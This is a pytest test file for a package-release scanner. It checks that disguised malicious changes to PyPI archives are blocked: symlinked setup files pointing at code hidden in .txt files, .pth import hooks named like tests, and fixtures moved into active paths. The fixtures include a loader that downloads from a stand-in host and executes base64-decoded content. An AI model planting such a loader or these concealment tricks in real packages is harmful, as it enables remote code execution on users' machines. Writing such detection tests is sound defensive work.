"""Names and places chosen so that what acts passes for what does not: links, tests' names, moved fixtures."""

from __future__ import annotations

import io
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from datetime import date
from pathlib import Path

import pytest

from doorward.formats.settings import InspectSettings
from doorward.inspect.inspection import Basis, inspect_release
from doorward.inspect.weights import shipped
from doorward.inspect.workbench import Workbench
from doorward.model.finding import Report, Verdict
from doorward.wiring import Silence, artifact_at, workbench

CORE = "def add(a, b):\n    return a + b\n" * 20
SETUP = "from setuptools import setup\nsetup(name='p')\n"
LOADER = (
    "import base64\nimport urllib.request\n"
    "def go():\n"
    "    body = urllib.request.urlopen('https://cdn.mirror.test/x').read()\n"
    "    exec(base64.b64decode(body))\n"
    "go()\n"
)
HOOK = "import p; p.go()\n"


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workbench]:
    folder = tmp_path_factory.mktemp("standing")
    with workbench(InspectSettings(cache_folder=folder, jobs=1), [folder.parent], Silence()) as desk:
        yield desk


def tarball(path: Path, files: Mapping[str, str], links: Mapping[str, str] | None = None) -> Path:
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as archive:
        for name, text in sorted(files.items()):
            entry = tarfile.TarInfo(name)
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
        for name, target in (links or {}).items():
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = tarfile.SYMTYPE, target
            archive.addfile(entry)
    return path


def archive(path: Path, files: Mapping[str, str]) -> Path:
    with zipfile.ZipFile(path, "w") as stream:
        for name, text in sorted(files.items()):
            stream.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), text)
    return path


def report(bench: Workbench, *paths: Path) -> Report:
    *olds, new = (artifact_at(path, "p", f"1.{n}", "pypi") for n, path in enumerate(paths))
    return inspect_release(olds, new, bench, Basis(weights=shipped(), today=date(2026, 11, 24)))


@pytest.mark.parametrize("linked", ["p-1/setup.py", "p-1/p/core.py"])
def test_code_under_the_name_of_a_text_and_a_link_with_its_true_name(
    bench: Workbench, tmp_path: Path, linked: str
) -> None:
    files = {"p-1/setup.py": SETUP, "p-1/p/core.py": CORE}
    old = tarball(tmp_path / "old.tar.gz", files)
    hidden = {"p-1/p/docs/notes.txt": files.pop(linked) + LOADER}
    target = {"p-1/setup.py": "p/docs/notes.txt", "p-1/p/core.py": "docs/notes.txt"}[linked]
    found = report(bench, old, tarball(tmp_path / "new.tar.gz", files | hidden, {linked: target}))
    assert found.verdict is Verdict.BLOCK
    assert ("script.dataflow", linked) in {(f.rule, f.path) for f in found.findings}


def test_a_link_that_stays_while_its_target_becomes_code(bench: Workbench, tmp_path: Path) -> None:
    files, links = {"p-1/p/notes.txt": SETUP, "p-1/p/core.py": CORE}, {"p-1/setup.py": "p/notes.txt"}
    old = tarball(tmp_path / "old.tar.gz", files, links)
    new = tarball(tmp_path / "new.tar.gz", files | {"p-1/p/notes.txt": SETUP + LOADER}, links)
    found = report(bench, old, new)
    assert found.verdict is Verdict.BLOCK
    assert "p-1/setup.py" in {f.path for f in found.findings}


@pytest.mark.parametrize("name", ["test_p.pth", "p-test.pth", "p.spec.pth"])
def test_a_hook_that_is_called_a_test(bench: Workbench, tmp_path: Path, name: str) -> None:
    old = archive(tmp_path / "old.zip", {"p/__init__.py": CORE})
    found = report(bench, old, archive(tmp_path / "new.zip", {"p/__init__.py": CORE, name: HOOK}))
    assert found.verdict is Verdict.BLOCK
    assert [(f.rule, f.path) for f in found.findings] == [("hook.pth-import", name)]


@pytest.mark.parametrize("kept", [False, True])
def test_a_fixture_that_moves_to_where_it_acts(bench: Workbench, tmp_path: Path, *, kept: bool) -> None:
    package, fixture = {"p/__init__.py": CORE}, {"p/tests/data/p.pth": HOOK}
    old = archive(tmp_path / "old.zip", package | fixture)
    new = archive(tmp_path / "new.zip", package | {"p.pth": HOOK} | (fixture if kept else {}))
    found = report(bench, old, new)
    assert found.verdict is Verdict.BLOCK
    assert [(f.rule, f.path, f.scope) for f in found.findings] == [("hook.pth-import", "p.pth", "package")]


def test_a_hook_among_tests_acts_on_nobody(bench: Workbench, tmp_path: Path) -> None:
    old = archive(tmp_path / "old.zip", {"p/__init__.py": CORE})
    new = archive(tmp_path / "new.zip", {"p/__init__.py": CORE, "p/tests/data/p.pth": HOOK})
    assert report(bench, old, new).verdict is not Verdict.BLOCK
